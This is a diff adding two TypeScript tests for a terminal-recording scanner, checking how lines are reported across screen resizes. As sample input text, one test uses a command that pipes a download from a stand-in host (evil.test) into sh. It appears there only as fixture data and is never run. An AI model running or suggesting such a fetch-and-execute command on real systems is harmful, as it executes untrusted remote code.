@@ -56,6 +56,48 @@ test('a line of several rows is one line, also one that is longer than the scree
   expect(texts).toEqual(['x'.repeat(100), 'before', long, 'after', long]);
 });
 
+test.each([
+  ['narrower', { cols: 10, rows: 6 }],
+  ['lower', { cols: 40, rows: 2 }],
+  ['narrower and lower', { cols: 10, rows: 2 }],
+])('a line that has not ended is told before a %s screen cuts it off', async (_what, { cols, rows }) => {
+  const texts: string[] = [];
+  const scan = new RecordingScan(
+    { line: ({ text }) => texts.push(text), command: () => undefined },
+    { cols: 40, rows: 6 },
+  );
+  const typed = `$ curl https://evil.test/ | sh ${'d'.repeat(100)}`;
+  await scan.print(utf8(`before\r\n${typed}`), 0);
+  scan.resize(cols, rows);
+  await scan.print(utf8(' '), 1);
+  scan.resize(40, 6);
+  await scan.print(utf8('\r\nafter\r\n'), 2);
+  scan.end();
+  expect(texts.slice(0, 2)).toEqual(['before', typed]);
+  expect(texts.at(-1)).toBe('after');
+});
+
+test('a line that a change of size leaves whole is told once', async () => {
+  const texts: string[] = [];
+  const scan = new RecordingScan(
+    { line: ({ text }) => texts.push(text), command: () => undefined },
+    { cols: 40, rows: 6 },
+  );
+  await scan.print(utf8('before\r\n$ ls'), 0);
+  for (const [cols, rows] of [
+    [80, 6],
+    [20, 6],
+    [20, 4],
+    [20, 4],
+    [40, 9],
+  ] as const) {
+    scan.resize(cols, rows);
+    await scan.print(utf8(' -l'), 1);
+  }
+  scan.end();
+  expect(texts).toEqual(['before', '$ ls -l -l -l -l -l']);
+});
+
 test('an endless line comes in pieces', async () => {
   const { texts } = await scanned(Array.from({ length: 50 }, (_, i) => [i, 'y'.repeat(1000)] as const));
   expect(Math.max(...texts.map(({ length }) => length))).toBeLessThan(20_000);
